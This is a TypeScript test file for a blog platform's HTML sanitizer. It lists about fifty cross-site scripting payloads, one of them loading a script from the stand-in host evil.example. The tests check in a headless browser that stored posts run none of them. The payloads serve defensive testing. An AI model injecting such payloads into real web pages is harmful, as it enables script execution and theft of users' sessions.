import type { TestApp, TestTenant } from '@qhatu/core/testing';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BASE, blogApp, caller, createPost } from './helpers.js';

/** Debian's chromium (`.ci/run` installs it when it is missing). */
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';

let t: TestApp;
let shop: TestTenant;
let api: ReturnType<typeof caller>;
let browser: Browser;
beforeAll(async () => {
  t = await blogApp();
  shop = await t.createTenant();
  api = caller(t, shop);
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
});
afterAll(async () => {
  await browser?.close();
  await t?.close();
});

/** Every payload tries to run `alert`; encoded, cased, nested and parser-confusing forms included. */
const ATTACKS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src=x onerror=alert(1)//`,
  `<IMG SRC="javascript:alert(1)">`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<img src="https://cdn.example/a.png" onload="alert(1)" onerror="alert(1)">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="https://cdn.example/a.png" srcset="javascript:alert(1) 1x">`,
  `<a href="javascript:alert(1)">j1</a>`,
  `<a href="JaVaScRiPt:alert(1)">j2</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">j3</a>`,
  `<a href="&#x6A;avascript:alert(1)">j4</a>`,
  `<a href="&#0000106&#0000097vascript:alert(1)">j5</a>`,
  `<a href="java&#x09;script:alert(1)">j6</a>`,
  `<a href="java\nscript:alert(1)">j7</a>`,
  `<a href="  javascript:alert(1)">j8</a>`,
  `<a href="javascript&colon;alert(1)">j9</a>`,
  `<a href="%6Aavascript:alert(1)">j10</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d1</a>`,
  `<a href="vbscript:msgbox(1)">v1</a>`,
  `<a href="https://x.example/" onclick="alert(1)" onmouseover="alert(1)">h1</a>`,
  `<a href="https://x.example/" title='" onmouseover="alert(1)'>h2</a>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math href="javascript:alert(1)">m</math>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<div style="background:url(javascript:alert(1))">styled</div>`,
  `<style>@import 'javascript:alert(1)';</style>`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<body onload=alert(1)>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<xss onafterscriptexecute=alert(1)><script>1</script>`,
  `<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
  `<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>`,
  `<p>a</p><!-- <script>alert(1)</script> -->`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<div><p>unclosed <img src=x onerror=alert(1)`,
];

/** Markup a post keeps as it was sent. */
const KEPT = [
  `<h2>Heading</h2><h3>Sub</h3>`,
  `<p>Text with <strong>strong</strong>, <em>em</em>, <a href="https://andes.example/tours">a link</a> and <code>code</code>.</p>`,
  `<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>`,
  `<blockquote><p>Quoted</p></blockquote><pre><code>const a = 1;</code></pre>`,
  `<figure><img src="https://cdn.example/cafe.jpg" alt="Café" width="640" height="480" /><figcaption>Our farm</figcaption></figure>`,
  `<table><thead><tr><th scope="col">Size</th></tr></thead><tbody><tr><td colspan="2">M</td></tr></tbody></table>`,
  `<p><a href="/blog/posts/other">relative</a> <a href="mailto:hola@andes.example">mail</a> <a href="tel:+5112345678">call</a></p>`,
  `<p>Tom &amp; Jerry &lt;3 "quotes"</p>`,
  `<p>&lt;script&gt;alert(1)&lt;/script&gt; is shown as text</p>`,
];

async function stored(content: string): Promise<string> {
  const post = await createPost(api, { title: 'Content', content });
  const read = (await api('GET', `${BASE}/${post.id}`)).json().data.content as string;
  expect(read).toBe(post.content);
  return post.content;
}

/** The store's page with `html` in it, served from https://shop.example; nothing else loads. */
async function render(html: string): Promise<{ page: Page; dialogs: string[] }> {
  const page = await browser.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.route('**/*', (route) =>
    route.request().url() === 'https://shop.example/blog'
      ? route.fulfill({ contentType: 'text/html', body: `<!doctype html><html><head><title>Blog</title></head><body>${html}</body></html>` })
      : route.abort(),
  );
  await page.goto('https://shop.example/blog', { waitUntil: 'load' });
  // Handlers of failed loads, animations and toggles run right after load: let them have their turn.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
  return { page, dialogs };
}

/** The little of the DOM the audit reads (the test program is type-checked without the DOM library). */
interface DomElement {
  getAttributeNames(): string[];
  href?: string;
  src?: string;
}
interface DomBody {
  querySelectorAll(selector: string): ArrayLike<DomElement>;
}

/** Elements that can run or load code, event-handler attributes, and link and image schemes, as the browser parsed them. */
function audit(page: Page) {
  return page.evaluate(() => {
    const body = (globalThis as unknown as { document: { body: DomBody } }).document.body;
    const all = Array.from(body.querySelectorAll('*'));
    const protocols = (urls: string[]) => [...new Set(urls.map((u) => new URL(u).protocol))].sort();
    return {
      articles: body.querySelectorAll('article').length,
      dangerous: body.querySelectorAll('script, iframe, object, embed, svg, math, style, form, input, button, meta, base, template, video, audio, link').length,
      handlers: [...new Set(all.flatMap((el) => el.getAttributeNames().filter((n) => n.startsWith('on') || n === 'style' || n === 'srcdoc')))],
      // `href` and `src` as the browser resolved them against the page's address.
      linkProtocols: protocols(Array.from(body.querySelectorAll('a[href]'), (a) => a.href ?? '')),
      imageProtocols: protocols(Array.from(body.querySelectorAll('img[src]'), (img) => img.src ?? '')),
    };
  });
}

describe('content sanitizing', () => {
  it.each(KEPT)('keeps %s', async (html) => {
    expect(await stored(html)).toBe(html);
  });

  it('gives a link that opens a new tab rel="noopener noreferrer" and drops other targets', async () => {
    expect(await stored(`<a href="https://x.example/" target="_blank" rel="opener">x</a>`)).toBe(`<a href="https://x.example/" target="_blank" rel="noopener noreferrer">x</a>`);
    expect(await stored(`<a href="https://x.example/" target="_top" rel="nofollow">x</a>`)).toBe(`<a href="https://x.example/" rel="nofollow">x</a>`);
  });

  it('keeps the text and safe markup around an attack', async () => {
    expect(await stored(`<p>Before</p><script>alert(1)</script><p onclick="alert(1)">After <img src="https://cdn.example/a.png" onerror="alert(1)" alt="a"></p>`)).toBe(
      `<p>Before</p><p>After <img src="https://cdn.example/a.png" alt="a" /></p>`,
    );
    expect(await stored(`<a href="javascript:alert(1)">text stays</a>`)).toBe(`<a>text stays</a>`);
    expect(await stored(`<img src=x onerror=alert(1)>`)).toBe(`<img src="x" />`);
    expect(await stored(`<IMG SRC="javascript:alert(1)">`)).toBe('');
    expect(await stored(`<div style="color:red" class="x" id="y">d</div>`)).toBe(`<div>d</div>`);
  });

  it.each(ATTACKS)('stores nothing executable of %s', async (html) => {
    const content = await stored(html);
    // Quoted attribute values are text (the browser test below checks what they become).
    const markup = content.replace(/"[^"]*"/g, '""');
    expect(markup).not.toMatch(/<\s*(script|iframe|object|embed|svg|math|style|form|input|meta|base|template|video|audio|source|textarea|body)/i);
    expect(markup).not.toMatch(/\son[a-z]+\s*=/i);
    expect(content).not.toMatch(/(href|src)\s*=\s*"\s*(javascript|data|vbscript)/i);
  });

  it('runs nothing in a real browser: no dialog, no handler, no script URL, where the raw payloads do run', async () => {
    // The checks can fail: the same page with the payloads as sent opens dialogs and has script links.
    const raw = await render(ATTACKS.map((a) => `<article>${a}</article>`).join('\n'));
    expect(raw.dialogs.length).toBeGreaterThan(0);
    const rawAudit = await audit(raw.page);
    expect(rawAudit.dangerous).toBeGreaterThan(0);
    expect(rawAudit.handlers).toContain('onerror');
    expect(rawAudit.linkProtocols).toContain('javascript:');
    await raw.page.close();

    const contents = [];
    for (const html of [...ATTACKS, ...KEPT]) contents.push(await stored(html));
    const { page, dialogs } = await render(contents.map((c) => `<article>${c}</article>`).join('\n'));
    expect(dialogs).toEqual([]);
    // What the browser itself parsed: its elements, attributes and resolved URLs.
    expect(await audit(page)).toEqual({
      articles: ATTACKS.length + KEPT.length,
      dangerous: 0,
      handlers: [],
      linkProtocols: ['https:', 'mailto:', 'tel:'],
      imageProtocols: ['https:'],
    });
    await page.close();
  });

  it('sanitizes content changed with PATCH too', async () => {
    const post = await createPost(api, { title: 'Patched content', content: '<p>fine</p>' });
    const res = await api('PATCH', `${BASE}/${post.id}`, { content: '<p>edited</p><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>' });
    expect(res.json().data.content).toBe('<p>edited</p><img src="x" /><a>x</a>');
  });

  it('refuses content over 500,000 characters (400)', async () => {
    const res = await api('POST', BASE, { title: 'Huge', content: 'x'.repeat(500_001) });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.details[0].path).toBe('body.content');
  });
});
